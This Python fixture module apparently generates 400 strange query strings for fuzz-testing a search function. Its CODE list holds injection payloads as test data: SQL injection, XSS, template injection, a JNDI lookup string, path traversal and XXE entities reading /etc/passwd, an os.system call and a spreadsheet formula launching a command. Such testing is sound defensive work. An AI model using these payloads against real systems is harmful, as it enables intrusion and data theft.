"""Four hundred strange strings: what nobody means and somebody types, pastes or sends."""

from collections.abc import Iterator
from random import Random

MANY = 400
WORD = "odling"
OPERATORS = "AND OR NOT ELLER && || ! + - ( ) { } [ ] ^ \" ~ * ? : \\ / < > = ; , . | & % $ # @ ' `".split()
LUCENE = """
title:odling _all:* *:* _exists_:title year:[2000+TO+2030] year:{*+TO+2030} odling~2 "odling+system"~10
odl?ng od* *dling odling^1000000 (odling+OR+(system)) +odling+-system !odling /o.*g/ _source:*
_id:project-1 facet_year:2020 kind:application kind:draft record_id:1 version:1 key:project-1 words:odling
stems:odl kronor:[0+TO+*] begins:od withdrawn_at:* contact_email:* answers:* password:*
application.title:x titel:: ::titel titel:"odling
""".split()
REGEXES = """
/(a|b)*c{1,1000}/ ^(a+)+$ (x+x+)+y (?=a)*b [a-z]{0,99999} .*.*.*.*.*.*=.* (?P<a>.)(?P=a) \\d+\\w*\\s?
a{999999999} (((((((((((((((.*))))))))))))))) [[:alpha:]]* \\p{L}+ (?!) (?#x) .{100000} (a|aa)+$ ^$
[^\\x00] \\Q..\\E \\u0000
""".split()
CODE = (
    "'; DROP TABLE registry_project; --",
    "1 OR 1=1",
    "' UNION SELECT password FROM accounts_user --",
    "{{ request.user }}",
    "{% include 'admin/base.html' %}",
    "${jndi:ldap://x.example/a}",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "javascript:alert(1)",
    "../../../../etc/passwd",
    "%00 %2e%2e%2f %0d%0aSet-Cookie:x=1",
    "\r\nSet-Cookie: a=b",
    '{"query":{"match_all":{}}}',
    '{"$gt": ""}',
    "__import__('os').system('id')",
    "%s%s%s%n %d {0} {self} %(password)s",
    "]]><!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "=cmd|'/c calc'!A1",
    "<mark>odling</mark>",
    "¤ ¤¤ ¤¤¤",
    "\x00odling\x00system",
    "odling\x0bsystem\x0c\x1b[31m",
)
LETTERS = (
    "🚲🚌👩‍👩‍👧 odling",
    "🇸🇪" * 200,
    "مشروع \u202eodling\u202c",
    "\u202e\u2066\u2069\u200f" * 50,
    "o\u0308" * 300,
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!",
    "İSTANBUL ıI ﬁ ß ŉ ǰ ΐ",
    "ｏｄｌｉｎｇ ℌ𝔢𝔩𝔩𝔬 ²³ ½ Ⅷ",
    "𠮷野家 日本語の検索 한국어 ไทย עברית",
    "\ufeffodling\ufffe\uffff",
    "\u200b".join("odlingssystem"),
    "\u00ad".join("odlingssystem"),
    "\ud800 odling \udfff",
    "odl\udcffing",
    "\u2028\u2029\u0085",
    "ﷺ" * 100,
    "١٢٣٤ ०१२३ 2016–00413 2016—00413",
    "K\u212b\u2126",
)


def strange_texts() -> list[str]:
    """Return the strings, always the same."""
    draw = Random(400)
    fixed = [
        *OPERATORS,
        *(each.replace("+", " ") for each in LUCENE),
        *REGEXES,
        *CODE,
        *LETTERS,
        *_long(),
        *_nested(),
    ]
    made = _mixed(draw)
    return [*fixed, *(next(made) for _ in range(MANY - len(fixed)))]


def _long() -> Iterator[str]:
    yield "a" * 100_000
    yield "å" * 100_000
    yield f"{WORD} " * 15_000
    yield " OR ".join(f"ord{number}" for number in range(5_000))
    yield " ".join(f"-ord{number}" for number in range(5_000))
    yield " ".join(f'"ord {number}"' for number in range(5_000))
    yield " ".join(f"titel:ord{number}" for number in range(5_000))
    yield "odlingssystem" * 400
    yield "s" * 59 + " " + "ö" * 60 + " " + "x" * 61
    yield " ".join("abcdefghijklmnopqrstuvwxyzåäö" * 4)
    yield "arbetsmarknadsutbildningsverksamhetsledningssystemutvecklingsprojektplan" * 3
    yield "🚲" * 20_000
    yield "-" * 50_000
    yield '"' * 50_001
    yield "1" * 10_000


def _nested() -> Iterator[str]:
    for many in (50, 2_000, 20_000):
        yield "(" * many + WORD + ")" * many
        yield '"(' * many
        yield "NOT " * many + WORD
        yield f"({WORD} OR " * many
    yield "[[[" * 1_000 + "{{{" * 1_000


def _mixed(draw: Random) -> Iterator[str]:
    """Yield operators, words and letters thrown together, some of them very many."""
    pieces = [*OPERATORS, *LUCENE, *CODE[:12], *LETTERS[:12], WORD, "system", "å", " ", "titel:", '"', "-"]
    while True:
        many = draw.choice((3, 8, 20, 60))
        joint = draw.choice(("", " ", " OR ", "-", '"'))
        yield joint.join(draw.choices(pieces, k=many))
